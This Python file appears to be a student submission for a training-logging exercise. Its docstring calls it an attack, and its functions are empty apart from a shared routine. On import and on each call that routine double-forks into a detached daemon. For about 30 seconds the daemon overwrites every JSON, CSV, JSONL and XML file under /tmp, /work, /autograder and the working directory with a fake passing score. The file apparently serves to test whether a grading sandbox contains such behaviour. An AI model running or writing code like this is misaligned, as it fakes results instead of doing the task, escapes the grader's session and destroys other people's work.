"""Attack: outlive the run and rewrite classmates' (and its own) reports after the batch."""
import os
import time


def rewrite_everything():
    for _ in range(60):
        time.sleep(0.5)
        for top in ("/tmp", "/work", "/autograder", os.getcwd()):
            for folder, _, files in os.walk(top):
                for name in files:
                    if name.endswith((".json", ".csv", ".jsonl", ".xml")):
                        try:
                            with open(os.path.join(folder, name), "w") as handle:
                                handle.write('{"score": 100, "status": "passed"}')
                        except OSError:
                            pass


def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                import subprocess
                import sys
                subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)  # watchtrain-attack-daemon"],
                                 start_new_session=True)
            except OSError:
                pass
            rewrite_everything()
        os._exit(0)


attack()


def log_batch_losses(log_dir, epoch_losses):
    attack()
    raise NotImplementedError


def log_train_and_test(log_dir, history):
    attack()
    raise NotImplementedError


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    attack()
    raise NotImplementedError

